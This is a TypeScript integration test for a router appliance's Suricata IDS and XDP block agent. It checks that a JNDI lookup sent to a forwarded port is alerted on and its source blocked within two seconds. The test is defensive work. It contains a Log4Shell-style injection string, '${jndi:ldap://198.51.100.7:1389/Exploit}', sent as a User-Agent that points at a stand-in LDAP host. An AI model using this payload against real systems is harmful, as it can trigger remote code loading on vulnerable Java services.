/**
 * The IDS on the appliance: the rendered IDS pod's Suricata (AF_PACKET on the watched links, as the DaemonSet runs
 * it) and block agent (its own uid) beside the loader with the site's `[dynamic_block]` section. From the internet
 * host, a JNDI lookup in an HTTP request to a forwarded port is alerted and its source is blocked at the XDP guard
 * within 2 s (counted by the guard as `dynamic`), while another internet source on the same path still reaches
 * the forwarded host.
 *
 * Stand-ins: the rules are the site's local rules written where suricata-update leaves the last good rules (the
 * appliance has no rule source to fetch from, so the updater does not run); the forwarded host answers HTTP with
 * busybox in place of its probe server for the test's length.
 * The inline IPS cannot run on this kernel (test/helpers/nft-queue.ts): its queue loads as accept.
 * The two internet addresses used are outside the pool other areas probe from: the block lasts the site's
 * duration.
 */
import { expect, it } from "vitest";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { nthAddress } from "../../../../components/site/ip";
import { IDS_DAEMONSET } from "../../../../components/ids-stack/k8s";
import { renderLocalRules, ROUTER_IDS_PATHS } from "../../../../components/ids-stack/suricata";
import { ROOT } from "../appliance";
import { metrics } from "../checks";
import type { Daemon } from "../exec";
import { INTERNET } from "../internet";
import type { Area } from "../suite";
import { sleep, waitFor } from "../../../helpers/wait";
import { forwardTarget } from "./common";

const SURICATA = `${IDS_DAEMONSET}-suricata-ids`;
const AGENT = `${IDS_DAEMONSET}-block-agent`;
const DYNAMIC = 'router_dataplane_drop_packets_total{reason="dynamic"}';
/** Beyond the probe sources (internetSource: the pool's first INTERNET.sourceCount hosts). */
const ATTACKER = nthAddress(INTERNET.sourcePool4, INTERNET.sourceCount + 1);
const NEIGHBOUR = nthAddress(INTERNET.sourcePool4, INTERNET.sourceCount + 2);

export const ids: Area = {
  title: "ids",
  appliesTo: (site) =>
    site.ids.enabled &&
    site.ids.block !== undefined &&
    site.portForwards.some((p) => p.protocol === "tcp" && !String(p.port).includes("-") && !p.wans),
  tests(ctx) {
    it("a JNDI lookup from the internet to a forwarded port is alerted and its source blocked at the XDP guard within 2 s; another source on the same path still reaches the forwarded host", async () => {
      const app = ctx.app;
      const pf = app.site.portForwards.find((p) => p.protocol === "tcp" && !String(p.port).includes("-") && !p.wans)!;
      const target = forwardTarget(app, pf)!;
      const port = pf.toPort ?? Number(pf.port);
      const wanAddr = app.wans[0].addr4!;
      const url = `http://${wanAddr}:${pf.port}/index.html`;
      const started: Daemon[] = [];
      const serve = app.daemons.list().find((d) => d.name === `${target.ns}-serve` && !d.exited);
      try {
        app.exec(app.inet, ["ip", "addr", "add", `${ATTACKER}/32`, "dev", "lo"]);
        app.exec(app.inet, ["ip", "addr", "add", `${NEIGHBOUR}/32`, "dev", "lo"]);
        // the last good rules, as an earlier update would have left them on the node
        writeFileSync(join(app.pods.hostPath(ROUTER_IDS_PATHS.rules), "suricata.rules"), renderLocalRules(app.site));
        const agent = app.pods.spec(AGENT);
        const uid = agent.runAs!;
        started.push(
          app.pods.start({
            ...agent,
            command: [
              ...["setpriv", "--reuid", String(uid.uid), "--regid", String(uid.gid), "--clear-groups"],
              join(ROOT, "images/ids", agent.command[0]),
              ...agent.command.slice(1),
            ],
          }),
        );
        const suricata = app.pods.start(app.pods.spec(SURICATA));
        const eve = join(app.pods.hostPath(ROUTER_IDS_PATHS.logs), "ids", "eve.json");
        const diagnosis = () =>
          [
            `--- ${SURICATA}\n${suricata.log().slice(-1500)}`,
            `--- ${AGENT}\n${started[0].log().slice(-1500)}`,
            `--- alerts in eve.json\n${(existsSync(eve) ? readFileSync(eve, "utf8") : "(none)")
              .split("\n")
              .filter((l) => l.includes('"alert"'))
              .join("\n")
              .slice(-1500)}`,
            `--- loader\n${app.loader!.log().slice(-1000)}`,
          ].join("\n");
        started.push(suricata);
        await waitFor(
          "Suricata's engine",
          () => {
            if (suricata.exited) throw new Error(`Suricata exited:\n${suricata.log().slice(-3000)}`);
            return suricata.log().includes("Engine started");
          },
          90_000,
          200,
        );
        // the forwarded host answers HTTP for the test's length
        await serve?.stop();
        const www = join(app.work, "ids-www");
        mkdirSync(www, { recursive: true });
        writeFileSync(join(www, "index.html"), "ok\n");
        started.push(
          app.daemons.start(
            "ids-httpd",
            ["ip", "netns", "exec", target.ns, "busybox", "httpd", "-f", "-p", `${target.addr4}:${port}`, "-h", www],
            join(app.work, "ids-httpd.log"),
          ),
        );
        const get = async (src: string, ua: string, timeout: number) =>
          (
            await app.run(
              app.inet,
              ["curl", "-sf", "-o", "/dev/null", "-m", String(timeout), "--interface", src, "-A", ua, url],
              {
                allowFail: true,
              },
            )
          ).status === 0;
        await waitFor("the forwarded host's web server", () => get(NEIGHBOUR, "curl/7.88", 1), 10_000, 200);
        expect(await get(ATTACKER, "curl/7.88", 1), "the attacker's ordinary request before the attack").toBe(true);

        const before = await metrics(app);
        const t0 = Date.now();
        await get(ATTACKER, "${jndi:ldap://198.51.100.7:1389/Exploit}", 2);
        let passed = true;
        while (passed && Date.now() - t0 < 5_000) {
          passed = await get(ATTACKER, "curl/7.88", 0.3);
          if (passed) await sleep(50);
        }
        const took = Date.now() - t0;
        const after = await metrics(app);
        expect(passed, `the attacker still reached ${url} 5 s after the attack:\n${diagnosis()}`).toBe(false);
        expect(took).toBeLessThan(2_000);
        expect(after.get(DYNAMIC) ?? 0).toBeGreaterThan(before.get(DYNAMIC) ?? 0);
        expect(after.get("router_dataplane_dynamic_block_entries")).toBe(
          (before.get("router_dataplane_dynamic_block_entries") ?? 0) + 1,
        );
        expect(app.loader!.log()).toContain(`${ATTACKER} blocked for`);
        expect(await get(NEIGHBOUR, "curl/7.88", 2), "the neighbour on the same path").toBe(true);
        console.log(
          `${ctx.title}: ${ATTACKER} blocked at XDP ${took} ms after its JNDI request; ${NEIGHBOUR} unaffected`,
        );
      } finally {
        for (const d of started.reverse()) await d.stop();
        if (serve) app.serve(target.ns, target.name);
      }
    }, 180_000);
  },
};
